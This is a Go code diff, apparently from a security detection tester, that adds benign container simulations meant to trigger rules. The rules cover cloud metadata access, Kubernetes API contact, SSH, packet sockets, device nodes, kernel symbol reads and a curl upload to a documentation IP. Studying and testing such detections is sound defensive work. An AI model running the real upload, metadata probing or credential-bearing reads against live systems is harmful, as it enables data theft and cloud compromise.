@@ -23,6 +23,12 @@ func programInContainer(rule, path string, argv ...string) Simulation {
 		"exec", append([]string{path}, argv...), container{programs: []string{path}})
 }
 
+// connects makes a simulation that connects to an address in a container: its own loopback interface has it.
+func connects(rule, ip, port string) Simulation {
+	return inContainer(rule, "Connects to "+ip+" port "+port+" in a container whose only network is its own loopback.",
+		"connect", []string{ip, port}, container{})
+}
+
 // shellPath is where a container has this binary under a shell's name.
 const shellPath = "/bin/sh"
 
@@ -48,8 +54,20 @@ var containerSimulations = []Simulation{
 		"mount-absent-device", nil, container{}),
 	inContainer("container_namespace_change", "Enters the UTS namespace that it is already in, in a container.",
 		"setns", nil, container{}),
-	inContainer("cloud_metadata_access", "Connects to 169.254.169.254 in a container whose only network is its own loopback.",
-		"connect-metadata", nil, container{}),
+	connects("cloud_metadata_access", "169.254.169.254", "80"),
+	connects("kubernetes_api_contact", "10.96.0.1", "443"),
+	connects("ssh_from_container", "192.0.2.1", "22"), // TEST-NET-1, RFC 5737
+	inContainer("container_device_node", "Makes a node for the device 0:0, which does not exist, in a container.",
+		"mknod", []string{"/tmp/simulation"}, container{}),
+	inContainer("packet_socket_in_container", "Opens a packet socket in a container whose only network is its own loopback, and closes it.",
+		"packet-socket", nil, container{}),
+	inContainer("container_capability_use", "Enters the UTS namespace that it is already in, in a container, which needs CAP_SYS_ADMIN.",
+		"setns", nil, container{}),
+	inContainer("executable_written_in_container", "Writes a program that does nothing in a container.",
+		"write-program", []string{"/tmp/simulation"}, container{}),
+	inContainer("kernel_symbols_read", "Opens /proc/kallsyms for reading in a container, and reads nothing.",
+		"open-for-reading", []string{"/proc/kallsyms"}, container{}),
+	programInContainer("upload_from_container", "/usr/bin/curl", "curl", "-T", "/tmp/simulation", "http://203.0.113.1/"),
 	inContainer("kernel_memory_read", "Makes and opens a file of its own named /dev/kmem in a container.",
 		"write-file", []string{"/dev/kmem"}, container{}),
 	inContainer("container_runtime_overwrite", "Writes a file of its own named /usr/sbin/runc in a container.",
@@ -115,13 +133,27 @@ func stepSetns([]string) error {
 	return unix.Setns(fd, unix.CLONE_NEWUTS)
 }
 
-func stepConnectMetadata([]string) error {
-	const ip = "169.254.169.254"
-	if err := addLoopback(ip); err != nil {
+func stepConnect(args []string) error {
+	if err := addLoopback(args[0]); err != nil {
 		return err
 	}
-	_, _, err := connected(ip + ":80")
+	_, _, err := connected(args[0] + ":" + args[1])
 	return err
+}
+
+func stepMknod(args []string) error {
+	if err := unix.Mknod(args[0], unix.S_IFBLK|0o600, 0); err != nil {
+		return fmt.Errorf("mknod: %w", err)
+	}
+	return nil
+}
+
+func stepPacketSocket([]string) error {
+	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0) // protocol 0: it receives nothing
+	if err != nil {
+		return fmt.Errorf("socket: %w", err)
+	}
+	return unix.Close(fd)
 }
 
 // stepShellOnTerminal starts /bin/sh, which is this binary, with a pseudo-terminal as its input. See pty(7).
